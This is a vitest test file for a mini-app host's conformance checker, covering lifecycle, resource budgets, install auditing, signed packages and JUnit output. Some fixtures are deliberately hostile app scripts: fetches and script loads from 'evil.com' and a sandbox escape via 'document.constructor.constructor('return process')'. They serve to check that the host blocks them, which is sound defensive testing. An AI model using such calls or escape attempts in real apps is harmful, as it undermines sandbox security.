import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { openAuditLog } from '../src/host/audit.js';
import { runConformance, type ConformanceReport } from '../src/host/conformance.js';
import { conformanceJunit } from '../src/host/junit.js';
import { parseJsonOutput, runCli } from './helpers/cli.js';
import { registryJson, signedPackage, tempDir, writeTemp } from './helpers/host-fixtures.js';

function project(script: string, manifest: Record<string, unknown> = {}): string {
  const dir = join(tempDir('miniapp-conf-'), 'app');
  mkdirSync(dir);
  writeFileSync(
    join(dir, 'manifest.json'),
    JSON.stringify({ id: 'com.partner.conf', version: '1.0.0', minHostVersion: '3.0.0', entryPoint: 'index.html', permissions: ['storage'], allowedDomains: ['api.partner.com'], ...manifest }),
  );
  writeFileSync(join(dir, 'index.html'), '<!doctype html><script src="app.js"></script>');
  writeFileSync(join(dir, 'app.js'), script);
  return dir;
}

const failed = (r: ConformanceReport) => Object.fromEntries(r.checks.filter((c) => c.status === 'failed').map((c) => [c.name, c.code]));
const conform = (target: string, extra = {}) => runConformance({ target, hostVersion: '3.4.0', ...extra });

describe('conformance', () => {
  it('passes a well-behaved app through install, every lifecycle phase and every check', async () => {
    // The app writes to storage only once it has seen hide then show, in that order (it may be shown at
    // launch too): the storage the report measures at the end proves the events reached the page.
    const r = await conform(
      project(`
      const seen = [];
      for (const s of ['hidden', 'shown']) {
        window.addEventListener('miniapp:' + s, () => {
          seen.push(s);
          if (seen.slice(-2).join() === 'hidden,shown') MiniAppBridge.call('storage.set', { key: 'lifecycle', value: seen.join() });
        });
      }
    `),
    );
    expect(failed(r)).toEqual({});
    expect(r.ok).toBe(true);
    expect(r.storage?.usedBytes).toBeGreaterThan(0);
    expect(r.checks.map((c) => c.name)).toEqual(
      expect.arrayContaining([
        'lifecycle.launch',
        'lifecycle.hide',
        'lifecycle.show',
        'lifecycle.suspend',
        'lifecycle.resume',
        'lifecycle.unload',
        'budget.startup',
        'budget.memory',
        'budget.storage',
      ]),
    );
    expect(r.checks.filter((c) => c.name.startsWith('install.') && c.status === 'skipped').map((c) => c.name)).toEqual([
      'install.fetch',
      'install.signature',
      'install.key-authorised',
      'install.permissions',
      'install.downgrade',
    ]);
  });

  it.each([
    ['an uncaught error', 'setTimeout(() => { throw new Error("boom"); }, 0);', {}, { 'policy.uncaught-errors': 'RUN_SCRIPT_ERROR' }],
    ['an undeclared permission', 'MiniAppBridge.call("payment.pay", { amount: 1, currency: "EUR" }).catch(() => {});', {}, { 'policy.permissions': 'RUN_UNDECLARED_PERMISSION' }],
    ['network outside allowedDomains', 'fetch("https://evil.com/x").catch(() => {});', {}, { 'policy.network': 'DOMAIN_NOT_ALLOWED' }],
    [
      'a classic script from outside allowedDomains',
      'document.head.appendChild(Object.assign(document.createElement("script"), { src: "https://evil.com/x.js" }));',
      {},
      { 'policy.network': 'DOMAIN_NOT_ALLOWED' },
    ],
    ['start-up over budget', 'const end = Date.now() + 150; while (Date.now() < end);', { startupBudgetMs: 50 }, { 'budget.startup': 'CONFORMANCE_STARTUP_OVER_BUDGET' }],
    [
      'memory over the limit',
      'window.keep = []; setTimeout(function grow() { keep.push(new ArrayBuffer(4 << 20)); setTimeout(grow, 2); }, 0);',
      { memoryMb: 32 },
      { 'budget.memory': 'APP_LIMIT_EXCEEDED' },
    ],
    ['an escape attempt the sandbox stopped', 'try { document.constructor.constructor("return process")(); } catch {}', {}, { 'policy.escape-attempts': 'RUN_ESCAPE_ATTEMPT' }],
    ['storage over quota', 'MiniAppBridge.call("storage.set", { key: "big", value: "x".repeat(5000) }).catch(() => {});', { storageQuotaBytes: 1000 }, { 'budget.storage': 'QUOTA_EXCEEDED' }],
  ])('fails on %s', async (_name, script, extra, expected) => {
    const r = await conform(project(script), extra);
    expect(r.ok).toBe(false);
    expect(failed(r)).toMatchObject(expected);
  });

  it('audits the install of a project directory step by step, signature steps skipped, and its verdict (--audit)', async () => {
    const app = project('MiniAppBridge.call("storage.set", { key: "k", value: "v" });');
    const r = await runCli(['conformance', app, '--audit', join(app, '..', 'audit.jsonl'), '--host-version', '3.4.0']);
    expect(r.code).toBe(0);
    const events = readFileSync(join(app, '..', 'audit.jsonl'), 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    const steps = events.filter((e) => e.type === 'install.step');
    expect(steps.map((e) => `${e.step} ${e.status}`)).toEqual([
      'fetch skipped',
      'signature skipped',
      'structure passed',
      'key-authorised skipped',
      'host-version passed',
      'permissions skipped',
      'downgrade skipped',
      'extract passed',
      'activate passed',
    ]);
    expect(steps.every((e) => e.source === app)).toBe(true);
    expect(steps.slice(2).every((e) => e.app === 'com.partner.conf')).toBe(true);
    const verdict = events.findIndex((e) => e.type === 'install.verdict');
    expect(events[verdict]).toMatchObject({ app: 'com.partner.conf', version: '1.0.0', source: app, verdict: 'installed' });
    // The install comes before the launch, as a host's does.
    expect(verdict).toBeLessThan(events.findIndex((e) => e.type === 'app.launch'));
  });

  it('audits a refused directory install with the failed step and the refusal code', async () => {
    const audit = openAuditLog();
    const r = await conform(project('', { minHostVersion: '3.4.0' }), { hostVersion: '3.0.0', audit });
    expect(failed(r)).toEqual({ 'install.host-version': 'HOST_UPDATE_REQUIRED' });
    expect(audit.events.filter((e) => e.type === 'install.step').at(-1)).toMatchObject({ app: 'com.partner.conf', step: 'host-version', status: 'failed', code: 'HOST_UPDATE_REQUIRED' });
    expect(audit.events.find((e) => e.type === 'install.verdict')).toMatchObject({ app: 'com.partner.conf', verdict: 'refused', code: 'HOST_UPDATE_REQUIRED' });
    expect(audit.events.some((e) => e.type === 'app.launch')).toBe(false);
  });

  it('applies a small memory limit to the app, not to the runtime loading before it', async () => {
    // The runtime's own start-up (~20 MB) happens before the app's baseline is taken.
    const r = await conform(project('window.keep = new Uint8Array(2 << 20).fill(1);'), { memoryMb: 8 });
    expect(failed(r)).toEqual({});
    expect(r.checks.find((c) => c.name === 'lifecycle.launch')).toMatchObject({ status: 'passed' });
  });

  it('verifies a signed package against the trust store and runs the signature steps', async () => {
    const dir = tempDir();
    writeTemp(dir, 'registry.json', registryJson([{ permissions: ['storage'] }]));
    writeTemp(dir, 'app.zip', signedPackage({ permissions: ['storage'] }));
    const r = await runCli(['conformance', 'app.zip', '--trust-store', 'registry.json', '--junit', 'junit.xml', '--json'], { cwd: dir });
    const out = parseJsonOutput(r.stdout);
    expect(out.errors).toEqual([]);
    expect(r.code).toBe(0);
    expect(out.result.signed).toBe(true);
    expect(out.result.checks.filter((c: { status: string }) => c.status === 'skipped')).toEqual([]);
    const junit = readFileSync(join(dir, 'junit.xml'), 'utf8');
    expect(junit).toMatch(/<testsuite name="com\.partner\.loans@2\.3\.1" tests="\d+" failures="0"/);
  });

  it.each([
    [['--host-version', 'latest'], '--host-version "latest" is not a host version: MAJOR.MINOR.PATCH, such as 3.2.0'],
    [['--memory-mb', '0'], '--memory-mb must be a positive number of MB'],
    [['--startup-budget', '-1'], '--startup-budget must be a positive number of ms'],
  ])('refuses %j as a usage error (exit 2), running nothing', async (flags, message) => {
    const r = await runCli(['conformance', project(''), ...flags]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`error USAGE_ERROR ${message}`);
    expect(r.stdout + r.stderr).not.toMatch(/INTERNAL_ERROR|\n\s+at /);
  });

  it('keeps the JUnit report well-formed XML whatever the app puts in its error messages', () => {
    const message = 'Error: bad \uffff \ufffe \u0001 ]]> <x> & "q"';
    const xml = conformanceJunit({
      ok: false,
      target: 'app',
      signed: false,
      checks: [{ name: 'policy.uncaught-errors', status: 'failed', code: 'RUN_SCRIPT_ERROR', message }],
      timings: { totalMs: 1 },
      memory: { peakGuestBytes: 0, limitBytes: 1 },
    });
    // XML 1.0 Char: #x9 | #xA | #xD | [#x20-#xD7FF] | [#xE000-#xFFFD] | [#x10000-#x10FFFF]
    expect(xml).not.toMatch(/[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]/u);
    expect(xml).toContain('message="Error: bad    ]]&gt; &lt;x&gt; &amp; &quot;q&quot;"');
  });

  it('exits 1 with coded errors and a JUnit failure for a failing app', async () => {
    const app = project('fetch("https://evil.com/x").catch(() => {});');
    const r = await runCli(['conformance', app, '--junit', join(app, '..', 'junit.xml')]);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/✗ com\.partner\.conf@1\.0\.0: 1 check failed/);
    expect(r.stdout).toMatch(/error DOMAIN_NOT_ALLOWED policy\.network/);
    expect(readFileSync(join(app, '..', 'junit.xml'), 'utf8')).toMatch(/<failure type="DOMAIN_NOT_ALLOWED"/);
  });
});
